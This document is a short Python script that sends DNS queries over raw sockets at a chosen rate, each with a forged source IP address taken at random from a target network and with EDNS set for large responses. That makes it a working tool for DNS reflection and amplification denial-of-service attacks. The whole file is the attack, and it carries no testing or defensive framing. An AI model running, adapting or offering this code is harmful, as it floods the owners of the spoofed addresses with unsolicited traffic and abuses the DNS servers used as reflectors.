"""Queries by UDP in others' names: the source of each is drawn anew out of a network. Needs CAP_NET_RAW. Prints how many bytes
of IP it has sent.

    spoofed_queries.py SERVER NETWORK PER_SECOND SECONDS NAME...
"""

import ipaddress
import random
import socket
import struct
import sys
import time


def _sum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def _query(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    edns = struct.pack("!BHHIH", 0, 41, 4096, 0, 0)
    return struct.pack("!6H", random.randrange(65536), 0x0100, 1, 0, 0, 1) + labels + struct.pack("!B2H", 0, 1, 1) + edns


def _packet(source, server, query):
    """Without a checksum of UDP, which IPv4 allows (RFC 768)."""
    udp = struct.pack("!4H", random.randrange(1024, 65536), 53, 8 + len(query), 0) + query
    head = struct.pack("!2B3H2BH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, source, server)
    return head[:10] + struct.pack("!H", _sum(head)) + head[12:] + udp


def _main(server, network, per_second, seconds, *names):
    to, sources = ipaddress.ip_address(server).packed, ipaddress.ip_network(network)
    queries = [_query(name) for name in names]
    sent, due = 0, time.monotonic()
    end = due + float(seconds)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as channel:
        while due < end:
            source = sources[random.randrange(1, sources.num_addresses - 1)].packed
            sent += channel.sendto(_packet(source, to, random.choice(queries)), (server, 0))
            due += 1 / float(per_second)
            time.sleep(max(0, due - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    _main(*sys.argv[1:])
